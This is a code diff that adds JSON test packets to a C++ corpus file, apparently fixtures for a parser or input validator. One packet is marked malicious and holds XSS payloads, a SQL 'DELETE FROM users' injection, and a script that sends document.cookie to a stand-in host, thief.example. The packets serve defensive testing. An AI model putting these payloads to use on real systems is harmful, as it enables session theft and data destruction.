@@ -174,4 +174,36 @@ std::vector<packet> classic() {
            kind::malicious, true}};
 }
 
+std::vector<packet> published() {
+  return {{R"({
+    "meta": { "id": 17, "valid": true, "coordinates": [ 0.0, 0.0 ], "nesting": [ [ [ null ] ] ] },
+    "greetings": [
+        { "language": "English", "text": "Good morning! Have you had your first coffee today?" },
+        { "language": "日本語", "text": "おはようございます。今朝のコーヒーはもう飲みましたか？" },
+        { "language": "Español", "text": "Buenos días, ¿ya tomó el café de la mañana?" }
+    ]
+})",
+           kind::valid, false},
+          {R"({
+    "meta": { "id": 17, "valid": true, "coordinates": [ 2.345, 6.789 ], "nesting": [ [ [ null ] ] ] },
+    "greetings": [
+        { "language": "English", "text": "Good morning! Have you had your first coffee today?" },
+        { "language": "日本語", "text": "おはようございます。今朝のコーヒーはもう飲みましたか？" },
+        { "language": "Español", "text": "Buenos días, ¿ya tomó el café de la mañana?" }
+    ],
+    "source": "192.0.2.1, // the quote at the end is missing here
+})",
+           kind::invalid, false},
+          {R"({
+    "meta": { "id": "<script>steal(document.cookie)</script>", "valid": true, "nesting": [ [ [ null ] ] ] },
+    "greetings": [
+        { "language": "English", "text": "Good morning! <img src=y onerror='steal(2)'>" },
+        { "language": "HTML", "text": "<iframe src='javascript:steal(`now`)'></iframe>" },
+        { "language": "SQL", "text": "'; DELETE FROM users; --" }
+    ],
+    "comment": "<script>fetch('https://thief.example/take?what=' + encodeURIComponent(document.cookie), {mode: 'no-cors'});</script>"
+})",
+           kind::malicious, false}};
+}
+
 }  // namespace rtbwire::corpus
